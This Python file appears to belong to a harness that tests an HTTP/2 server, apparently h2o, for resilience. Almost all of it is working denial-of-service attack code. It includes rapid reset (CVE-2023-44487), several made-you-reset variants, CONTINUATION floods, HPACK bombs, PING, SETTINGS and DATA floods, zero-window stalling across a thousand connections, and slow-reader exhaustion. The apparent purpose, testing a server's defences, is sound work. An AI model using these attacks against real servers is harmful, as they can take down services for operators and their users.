# SPDX-License-Identifier: Apache-2.0
"""Attacks over HTTP/2; each function is one connection of an attacker."""

import itertools
import struct

from harness import attack as http2
from harness.attack import Peer2, attack, frame


def _requests(target, ending):
    """Complete requests without end, each followed by `ending` of its stream; 100 in one go."""
    block = http2.head(target.path, [*target.proof(), ("content-length", "2")])
    with Peer2(target) as peer:
        for first in itertools.count(1, 200):
            out = b""
            for stream in range(first, first + 200, 2):
                out += frame(http2.HEADERS, http2.END_HEADERS, stream, block)
                out += frame(http2.DATA, http2.END_STREAM, stream, b"[]") + ending(stream)
            if not peer.send(out):
                return


@attack(proof=True, counted=("in_flight", "frames"))
def rapid_reset(target):
    """Complete requests, each reset at once (CVE-2023-44487)."""
    _requests(target, lambda stream: frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)))


@attack(proof=True, counted=("in_flight", "frames"))
def made_you_reset_zero(target):
    """The server is made to reset, by a window update of 0 (CVE-2025-8671)."""
    _requests(target, lambda stream: frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))


@attack(proof=True, counted=("in_flight", "frames"))
def made_you_reset_overflow(target):
    """The same, by a window beyond 2^31-1."""
    _requests(target, lambda stream: frame(http2.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0x7FFFFFFF)))


@attack(proof=True, counted=("in_flight", "frames"))
def made_you_reset_data(target):
    """The same, by DATA after the end of the stream."""
    _requests(target, lambda stream: frame(http2.DATA, http2.END_STREAM, stream, b"[]"))


@attack(proof=True)
def made_you_reset_priority(target):
    """The same, by a PRIORITY frame of 4 bytes."""
    _requests(target, lambda stream: frame(http2.PRIORITY, 0, stream, b"four"))


def _blocks(target, fields, begin=b""):
    """Heads of these fields on 20 streams, in pieces, never ended by END_STREAM."""
    with Peer2(target) as peer:
        for stream in range(1, 41, 2):
            block = http2.head(target.path) + (begin if stream == 1 else b"") + fields
            pieces = [block[at:at + 16000] for at in range(0, len(block), 16000)]
            out = frame(http2.HEADERS, 0, stream, pieces[0])
            for piece in pieces[1:-1]:
                out += frame(http2.CONTINUATION, 0, stream, piece)
            if not peer.send(out + frame(http2.CONTINUATION, http2.END_HEADERS, stream, pieces[-1])):
                return
        peer.wait_cut()


@attack(counted=("headers",))
def hpack_bomb(target):
    """100,000 header fields of one byte each, on 20 streams."""
    _blocks(target, b"\xa0" * 100_000)


@attack(counted=("headers",))
def hpack_references(target):
    """A field of 4 KB in the dynamic table, referred to 100,000 times on each of 20 streams."""
    entry = b"\x40\x01a" + b"\x7f" + bytes([3900 - 127 & 0x7F | 0x80, 3900 - 127 >> 7]) + b"v" * 3900
    _blocks(target, b"\xbe" * 100_000, entry)


@attack(counted=("headers",))
def hpack_short_heads(target):
    """90 streams of 16 KB of one-byte fields in one HEADERS frame each."""
    block = http2.head(target.path) + b"\xa0" * 16_000
    with Peer2(target) as peer:
        peer.send(b"".join(
            frame(http2.HEADERS, http2.END_HEADERS, stream, block[:16384]) for stream in range(1, 181, 2)))
        peer.wait_cut()


@attack(counted=("headers",))
def continuation(target):
    """A head that never ends (CVE-2024-27316)."""
    piece = frame(http2.CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 50)
    with Peer2(target) as peer:
        peer.send(frame(http2.HEADERS, 0, 1, http2.head(target.path)))
        while peer.send(piece * 100):
            pass


@attack(counted=("frames", "headers"))
def continuation_empty(target):
    """A head that never ends, of frames without a byte."""
    piece = frame(http2.CONTINUATION, 0, 1) * 2000
    with Peer2(target) as peer:
        peer.send(frame(http2.HEADERS, 0, 1, http2.head(target.path)))
        while peer.send(piece):
            pass


def _flood(target, frames, begin=b"", **options):
    """These frames over and over."""
    with Peer2(target, **options) as peer:
        peer.send(begin)
        while peer.send(frames):
            pass


def _open(target, stream=1):
    """A request whose body is still to come."""
    return frame(http2.HEADERS, http2.END_HEADERS, stream, http2.head(target.path, target.proof()))


@attack(counted=("frames",))
def ping(target):
    """PING without end, answers are read (CVE-2019-9512)."""
    _flood(target, frame(http2.PING, 0, 0, b"8 bytes!") * 1000)


@attack()
def ping_unread(target):
    """PING without end, answers are not read."""
    _flood(target, frame(http2.PING, 0, 0, b"8 bytes!") * 1000, reads=False, receive_buffer=4096)


@attack(counted=("frames",))
def settings(target):
    """SETTINGS without end (CVE-2019-9515)."""
    _flood(target, frame(http2.SETTINGS, 0, 0) * 1000)


@attack(counted=("frames",))
def settings_window(target):
    """SETTINGS that change the window of 100 open streams, without end."""
    begin = b"".join(_open(target, stream) for stream in range(1, 200, 2))
    change = [frame(http2.SETTINGS, 0, 0, struct.pack(">HI", http2.INITIAL_WINDOW_SIZE, size)) for size in (1, 2)]
    _flood(target, b"".join(change) * 500, begin)


@attack(counted=("frames",))
def priority(target):
    """PRIORITY without end: streams that depend on each other by turns."""
    begin = b"".join(_open(target, stream) for stream in range(1, 20, 2))
    turns = [frame(http2.PRIORITY, 0, stream, struct.pack(">IB", 0x80000000 | (stream + 2) % 20, stream))
             for stream in range(1, 19, 2)]
    _flood(target, b"".join(turns) * 100, begin)


@attack(counted=("frames",))
def empty_data(target):
    """DATA without a byte, without end (CVE-2019-9518)."""
    _flood(target, frame(http2.DATA, 0, 1) * 1000, _open(target))


@attack(counted=("frames",))
def tiny_data(target):
    """A body a byte a frame."""
    _flood(target, frame(http2.DATA, 0, 1, b" ") * 1000, _open(target))


@attack(counted=("frames",))
def window_update(target):
    """WINDOW_UPDATE without end."""
    _flood(target, frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000)


@attack(counted=("frames",))
def unknown_frames(target):
    """Frames of a kind that nobody knows, each a line on h2o's standard error."""
    _flood(target, frame(0xEE, 0, 0) * 1000)


@attack(counted=("slow",))
def zero_window(target):
    """50 requests, and never room for an answer."""
    with Peer2(target, {http2.INITIAL_WINDOW_SIZE: 0}, reads=False) as peer:
        for stream in range(1, 100, 2):
            peer.send(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, http2.head(target.path)))
        peer.wait_cut()


@attack(threads=1, counted=("slow", "buffers"), crowd=True)
def zero_window_crowd(target):
    """The same with 100 requests on each of 1,000 connections."""
    peers = []
    block = http2.head(target.path)
    requests = b"".join(
        frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block) for stream in range(1, 201, 2))
    try:
        while not target.over() and len(peers) < 1000:
            peers.append(Peer2(target, {http2.INITIAL_WINDOW_SIZE: 0}, reads=False))
            peers[-1].send(requests)
        for peer in peers:
            peer.wait_cut()
    finally:
        for peer in peers:
            peer.__exit__()


@attack()
def slow_reader_http2(target):
    """Requests without end whose answers are not read; the socket takes 4 KB."""
    with Peer2(target, reads=False, receive_buffer=4096) as peer:
        for stream in itertools.count(1, 2):
            flags = http2.END_HEADERS | http2.END_STREAM
            if not peer.send(frame(http2.HEADERS, flags, stream, http2.head(target.path))):
                return


def _bodies(target):
    """100 streams at a time, each with almost a whole body."""
    piece = b" " * 16384
    with Peer2(target) as peer:
        for stream in range(1, 200, 2):
            peer.send(_open(target, stream))
        for _ in range(target.body // len(piece) - 1):
            for stream in range(1, 200, 2):
                if not peer.send(frame(http2.DATA, 0, stream, piece)):
                    return
        peer.wait_cut()


@attack(threads=1, counted=("slow", "buffers"))
def bodies_on_streams(target):
    """100 streams of limits.body each, never ended, on one connection."""
    _bodies(target)


@attack(threads=16, counted=("slow", "buffers"))
def bodies_on_many(target):
    """The same on 16 connections."""
    _bodies(target)


@attack()
def large_http2(target):
    """Whole bodies of limits.body without a proof, eight at a time."""
    with Peer2(target) as peer:
        for first in itertools.count(1, 16):
            for stream in range(first, first + 16, 2):
                peer.send(_open(target, stream))
            for at in range(0, target.body, 16384):
                flags = http2.END_STREAM if at + 16384 >= target.body else 0
                for stream in range(first, first + 16, 2):
                    if not peer.send(frame(http2.DATA, flags, stream, b" " * 16384)):
                        return
